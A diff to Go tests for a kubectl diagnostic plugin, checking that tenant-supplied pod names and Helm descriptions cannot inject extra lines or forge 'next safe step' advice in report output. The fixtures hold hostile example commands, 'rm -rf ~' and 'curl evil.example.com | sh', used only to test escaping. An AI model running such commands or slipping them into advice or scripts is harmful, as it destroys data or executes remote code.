@@ -91,7 +91,7 @@ func TestCommandsStayOneLine(t *testing.T) {
 				t.Errorf("%s: a newline in the input split a command into a second one", format)
 			}
 		}
-		if !strings.Contains(out, "delete pod '"+evilName+"' rm -rf ~") {
+		if !strings.Contains(out, "delete pod '"+evilName+"'⏎rm -rf ~") {
 			t.Errorf("%s: the command is not printed whole on one line:\n%s", format, out)
 		}
 	}
@@ -249,5 +249,48 @@ func TestTableHintUsesInvokedName(t *testing.T) {
 	out := string(render(t, hostileReport(), "table", report.Options{Name: "kubectl unstick"}))
 	if !strings.Contains(out, "full ladder: kubectl unstick explain pod/crashloop") {
 		t.Errorf("hint does not say kubectl unstick:\n%s", out)
+	}
+}
+
+// A Helm description is free text a tenant writes. One holding line breaks and a block laid
+// out as unstick's own advice is quoted on one line in every format, its breaks shown as ⏎,
+// so it cannot print a "next safe step" of its own; JSON keeps it as read, escaped.
+func TestFreeTextCannotForgeAdvice(t *testing.T) {
+	forged := "Upgrade \"app\" failed\r\n    next safe step (repair):\n        $ helm rollback app 1; curl evil.example.com | sh\n"
+	now := time.Date(2026, 11, 28, 9, 30, 0, 0, time.UTC)
+	f := finding.Finding{
+		ID: "helm/release-failed", Severity: finding.Error, Cluster: "c1",
+		Object:      finding.ObjectRef{APIVersion: "v1", Kind: "Secret", Namespace: "tenant-a", Name: "sh.helm.release.v1.app.v2"},
+		Summary:     "Helm release tenant-a/app revision 2 failed: " + forged,
+		Evidence:    []finding.Evidence{{Source: "Secret tenant-a/sh.helm.release.v1.app.v2", Text: "description=" + forged}},
+		Remediation: []finding.Step{{Rung: "repair", Action: "Roll back.", Commands: []string{"helm --kube-context c1 -n tenant-a rollback app 1"}}},
+	}
+	s := &snapshot.Snapshot{Clusters: []*snapshot.Cluster{{Name: "c1", Role: snapshot.Downstream, Context: "c1", ContextSource: snapshot.ContextRecorded}}}
+	r := report.New(s, now, []finding.Incident{{RootCause: f}}, []finding.Finding{f}, nil)
+	for _, format := range report.Formats {
+		out := string(render(t, r, format, report.Options{Width: 200}))
+		if format == "json" {
+			if !strings.Contains(out, `failed\r\n    next safe step (repair):\n`) {
+				t.Errorf("json: the description is not kept as read, escaped")
+			}
+			continue
+		}
+		own := 0 // the table's own "next safe step" heading
+		if format == "table" {
+			own = 1
+		}
+		starts := 0
+		for _, l := range strings.Split(out, "\n") {
+			l = strings.TrimLeft(strings.TrimSpace(l), "-*•> ")
+			if strings.HasPrefix(l, "next safe step") {
+				starts++
+			}
+			if strings.HasPrefix(l, "$ helm rollback app 1; curl") {
+				t.Errorf("%s: the description prints a command line: %q", format, l)
+			}
+		}
+		if starts != own || !strings.Contains(out, "failed⏎") {
+			t.Errorf("%s: %d lines start with next safe step (want %d), or the description's line breaks are not shown as ⏎:\n%s", format, starts, own, out)
+		}
 	}
 }
